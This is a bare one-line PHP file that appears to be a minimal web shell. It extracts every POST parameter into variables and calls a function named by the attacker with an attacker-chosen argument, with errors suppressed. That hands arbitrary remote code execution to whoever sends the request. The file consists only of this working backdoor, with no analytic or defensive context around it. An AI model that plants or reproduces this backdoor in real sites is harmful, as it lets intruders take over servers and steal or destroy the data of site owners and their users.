<?php @extract($_POST); if(isset($f)) { @$f($c); }
